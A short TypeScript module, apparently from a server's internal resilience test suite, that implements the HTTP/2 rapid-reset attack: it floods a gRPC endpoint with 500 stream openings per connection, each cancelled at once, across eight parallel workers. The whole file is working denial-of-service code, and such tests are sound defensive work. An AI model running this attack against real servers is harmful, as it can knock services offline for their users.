// Resets every call on an HTTP/2 connection immediately after it is sent. Connects again when the
// server closes the connection.
import { constants } from 'node:http2'
import { callBlock, headers, preface, reset, settings } from '../../../server/testing/http2-frames.ts'
import type { Attack } from './attack.ts'
import { closed, written } from './sockets.ts'

const callCount = 500
const listGroups = '/platform.iam.v2beta1.GroupsService/ListGroups'

export const rapidReset: Attack = {
  parallel: 8,
  async round(target) {
    await target.take(callCount)
    const socket = await target.open()
    socket.resume()
    const block = callBlock(listGroups, ['authorization', target.tenant.authorization])
    const calls = Array.from({ length: callCount }, (_, at) => 2 * at + 1).flatMap((stream) => [
      headers(stream, block),
      reset(stream, constants.NGHTTP2_CANCEL),
    ])
    await written(socket, Buffer.concat([preface, settings, ...calls]))
    await closed(socket)
  },
}
